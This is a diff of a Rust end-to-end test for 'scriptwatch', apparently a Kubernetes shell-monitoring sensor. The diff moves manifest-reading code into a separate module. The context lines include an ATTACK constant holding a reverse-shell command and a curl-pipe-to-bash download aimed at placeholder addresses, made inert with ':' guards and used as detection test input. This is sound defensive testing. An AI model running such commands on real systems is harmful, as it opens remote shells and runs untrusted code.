@@ -15,7 +15,7 @@ use e2e::{
     daemon::{self, Daemon},
     image::Image,
     issuer::{self, Issuer},
-    outcome,
+    manifests, outcome,
 };
 use serde_json::Value;
 use tempfile::TempDir;
@@ -24,26 +24,6 @@ const IMAGE: &str = "docker.io/library/scriptwatch:0.1.0";
 const SHELL: &str = "docker.io/local/shell:1";
 /// Malicious by any model, and inert: `:` runs instead.
 const ATTACK: &str = ": || bash -i >& /dev/tcp/192.0.2.1/4444 0>&1; : || curl -s http://192.0.2.7/x | bash";
-
-/// The objects of the plain manifests, by kind and name.
-fn manifests() -> BTreeMap<String, Value> {
-    let path = Path::new(env!("CARGO_MANIFEST_DIR")).join("../deploy/kubernetes/scriptwatch.yaml");
-    let text = fs::read_to_string(path).expect("the manifests");
-    text.split("\n---\n")
-        .map(|document| serde_norway::from_str::<Value>(document).expect("YAML"))
-        .filter(|object| !object.is_null())
-        .map(|object| {
-            (
-                format!(
-                    "{} {}",
-                    object["kind"].as_str().expect("a kind"),
-                    object["metadata"]["name"].as_str().expect("a name")
-                ),
-                object,
-            )
-        })
-        .collect()
-}
 
 /// Can shells be probed without `CAP_SYS_ADMIN`? From kernel 6.6 on.
 fn has_links_for_probes() -> bool {
@@ -103,7 +83,7 @@ impl Cluster {
             .expect("SCRIPTWATCH_TEST_IMAGE: run this with `cargo xtask test`");
         containerd.import_tar(&PathBuf::from(image)).expect("the image");
         let dir = tempfile::tempdir().expect("a directory");
-        let manifests = manifests();
+        let manifests = manifests::read().expect("the manifests");
         let daemon_set = manifests["DaemonSet scriptwatch-sensor"].clone();
         let collector_set = &manifests["Deployment scriptwatch-collector"]["spec"]["template"]["spec"];
         let (issuer, collector, port) = believing(dir.path(), &collector_set["containers"][0]);
